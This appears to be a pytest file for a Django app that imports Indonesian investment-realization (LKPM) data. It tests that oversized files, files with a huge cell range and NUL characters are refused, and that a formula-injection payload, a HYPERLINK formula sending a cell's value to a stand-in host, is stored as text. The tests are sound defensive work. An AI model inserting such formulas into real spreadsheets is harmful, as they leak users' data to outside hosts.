"""Hostile LKPM files on the import page and the command line (issue 16): refused before they
are parsed, with the limit named, a 400 on the page and a non-zero exit on the command line;
and a company name written as a formula stays text in the staff workbook."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import ManagementUtility
from openpyxl import load_workbook

from mpp.core.tests.test_sheet_bounds import far_cell_file
from mpp.investment.actions import import_realizations
from mpp.investment.exceptions import ImportRejected
from mpp.investment.models import Dataset, Realization
from mpp.investment.tests.conftest import HEADER

FAR_CELL_REFUSAL = (
    "Berkas terlalu besar: lembar kerja menjangkau A1:XFD100000 (1.638.400.000 sel), paling "
    "banyak 2.000.000 sel."
)
FORMULA = '=HYPERLINK("http://x"&B2,"Klik")'


def post_import(client, name: str, data: bytes):  # type: ignore[no-untyped-def]
    return client.post(
        "/investasi/impor/",
        {"berkas": SimpleUploadedFile(name, data), "sumber": "uji", "data_per": "2025-08-01"},
    )


def test_the_far_cell_file_is_refused_naming_the_limit_and_imports_nothing(
    client, cast, kukar, import_page
):
    client.force_login(cast.regency_admin())

    response = import_page(
        {
            "berkas": SimpleUploadedFile("lkpm.xlsx", far_cell_file()),
            "sumber": "uji",
            "data_per": "2025-08-01",
        }
    )

    assert response.context["state"]["status"] == "done"
    assert FAR_CELL_REFUSAL in response.content.decode()
    assert [e["message"] for e in response.context["errors"]] == [FAR_CELL_REFUSAL]
    assert response.context["job"].result["code"] == "too_many_cells"
    assert Realization.objects.count() == 0 and Dataset.objects.count() == 0


def test_a_file_past_the_size_limit_is_a_form_error_before_it_is_read(
    client, cast, kukar, settings
):
    settings.MPP_INVESTMENT_IMPORT_MAX_BYTES = 1_000
    client.force_login(cast.regency_admin())

    response = post_import(client, "lkpm.csv", (HEADER + "\n").encode() * 10)

    assert response.status_code == 400
    assert response.context["form"].errors["berkas"] == [
        "Berkas terlalu besar: 1,3 KB, paling banyak 1000 bita."
    ]
    assert Dataset.objects.count() == 0


def run_command(*args: str) -> int:
    """`mpp investment ...` as the command line runs it (errors on stderr, the exit code). It
    closes the database connection when done: tests query nothing after it."""
    try:
        ManagementUtility(["mpp", "investment", "--skip-checks", *args]).execute()
    except SystemExit as exit:
        return int(exit.code or 0)
    return 0


def test_the_command_line_refuses_the_far_cell_file_with_the_message_and_exit_1(
    kukar, tmp_path, capsys
):
    path = tmp_path / "lkpm.xlsx"
    path.write_bytes(far_cell_file())

    code = run_command("import", str(path), "--cut-off", "2025-10-15")

    assert code == 1  # not killed by a signal: the reader never saw the file
    assert FAR_CELL_REFUSAL in capsys.readouterr().err


def test_the_command_line_refuses_a_file_past_the_size_limit_before_reading_it(
    kukar, tmp_path, capsys, settings
):
    settings.MPP_INVESTMENT_IMPORT_MAX_BYTES = 1_000
    path = tmp_path / "lkpm.csv"
    path.write_bytes(b"x" * 5_000)

    code = run_command("import", str(path))

    assert code == 1
    assert "Berkas terlalu besar: 4,9 KB, paling banyak 1000 bita." in capsys.readouterr().err


def test_a_company_name_written_as_a_formula_stays_text_in_the_staff_workbook(client, cast, kukar):
    quoted = '"' + FORMULA.replace('"', '""') + '"'
    row = f"2025,Q1,{quoted},9120300000001,PMDN,10431,5,64.02.06,IDR,1000000000,,1,0,0,Disetujui"
    import_realizations(
        region=kukar,
        data=f"{HEADER}\n{row}\n".encode(),
        file_name="lkpm.csv",
        source="uji",
        cut_off=dt.date(2025, 7, 15),
        acting_user=None,
    )
    client.force_login(cast.regency_admin())

    response = client.get("/investasi/internal/unduh.xlsx?tahun=2025&sd=1")

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content))["Perusahaan"]
    cell = sheet["A2"]
    assert (cell.value, cell.data_type) == (FORMULA, "s")
    assert cell.quotePrefix


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_template_still_imports_after_its_text_is_written_as_text(client, kukar, fmt):
    response = client.get(f"/investasi/templat.{fmt}")

    result = import_realizations(
        region=kukar,
        data=response.content,
        file_name=f"templat.{fmt}",
        source="uji",
        cut_off=dt.date(2025, 10, 15),
        acting_user=None,
    )

    assert result.rows == 3


def test_a_company_name_with_a_nul_character_is_refused_and_nothing_stored(kukar):
    """A 500 on PostgreSQL before (its text cannot hold NUL)."""
    row = "2025,Q1,PT \x00 Nul,9120300000001,PMDN,10431,5,64.02.06,IDR,1000,,1,0,0,Disetujui"

    with pytest.raises(ImportRejected) as refusal:
        import_realizations(
            region=kukar,
            data=f"{HEADER}\n{row}\n".encode(),
            file_name="lkpm.csv",
            source="uji",
            cut_off=dt.date(2025, 7, 15),
            acting_user=None,
        )

    assert [e.message for e in refusal.value.errors] == [
        "Baris 2 berisi karakter NUL; berkas tidak dapat dibaca."
    ]
    assert Realization.objects.count() == 0
